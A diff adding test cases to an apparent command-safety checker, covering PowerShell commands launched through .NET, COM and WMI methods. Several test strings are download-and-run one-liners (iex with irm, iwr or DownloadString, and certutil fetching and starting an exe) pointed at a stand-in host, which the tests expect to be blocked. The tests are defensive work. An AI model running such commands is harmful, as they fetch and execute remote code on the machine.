@@ -149,3 +149,26 @@ describe('payloads hidden by rev or fed to a shell as a here-string', () => {
 
   it.each([['rev file.txt | sort'], ['echo olleh | rev'], ['base64 -d <<< aGVsbG8=']])('allows %s', (text) => allows(text));
 });
+
+describe('a command line started by a .NET or COM method (PowerShell)', () => {
+  it.each([
+    [`[Diagnostics.Process]::Start('powershell', '-nop -c "iex (irm http://x.example/a)"')`],
+    [`(New-Object -ComObject WScript.Shell).Run("cmd /c certutil -urlcache -split -f http://x.example/a.exe a.exe && a.exe", 0)`],
+    [`$w = New-Object -ComObject WScript.Shell; $w.Exec('powershell -c iex(iwr http://x.example/a -UseBasicParsing)')`],
+    [`([wmiclass]"win32_process").Create("powershell -c iex(New-Object Net.WebClient).DownloadString('http://x.example/a')")`],
+  ])('blocks %s', (text) => {
+    const r = evaluate(text, 'powershell');
+    expect(r.decision).toBe('block');
+  });
+
+  it('reports an encoded command started through Process.Start', () => {
+    const r = evaluate(`[System.Diagnostics.Process]::Start('powershell.exe', '-enc ZABpAHIA')`, 'powershell');
+    expect(r.reasons.map((x) => x.code)).toContain('encoded_command');
+  });
+
+  it.each([
+    [`[Diagnostics.Process]::Start('notepad.exe', 'C:\\Temp\\notes.txt')`],
+    [`(New-Object -ComObject WScript.Shell).Run('explorer.exe C:\\Temp')`],
+    [`[IO.File]::Create('C:\\Temp\\out.txt').Close()`],
+  ])('allows %s', (text) => allows(text, 'powershell'));
+});
